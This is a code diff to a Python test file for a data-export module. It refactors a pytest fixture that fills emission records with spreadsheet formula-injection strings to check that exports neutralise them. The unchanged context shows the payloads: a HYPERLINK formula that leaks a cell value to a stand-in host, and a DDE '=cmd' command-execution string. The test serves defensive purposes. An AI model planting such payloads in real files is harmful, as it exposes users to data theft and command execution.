@@ -6,6 +6,7 @@ included, stay numbers.  Our own importers take such an exported file back: the 
 the neutraliser added is removed again (documented rule in ``ecologis.io.cells``).
 """
 
+from dataclasses import replace
 import csv
 import io
 import json
@@ -28,9 +29,9 @@ EVIL = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "=cmd|' /C calc'!
 @pytest.fixture
 def evil_profile(demo_path):
     p = load_profile(demo_path)
-    for e, name in zip(p.emissions, EVIL):
-        e.substance = name
-    p.emissions[-1].mass = -5.0            # an invalid but numeric mass: a number in every export
+    for i, (e, name) in enumerate(zip(p.emissions, EVIL)):
+        p.emissions[i] = replace(e, substance=name)
+    p.emissions[-1] = replace(p.emissions[-1], mass=-5.0)           # an invalid but numeric mass: a number in every export
     p.enterprise.name = "=1+1"
     return p
 
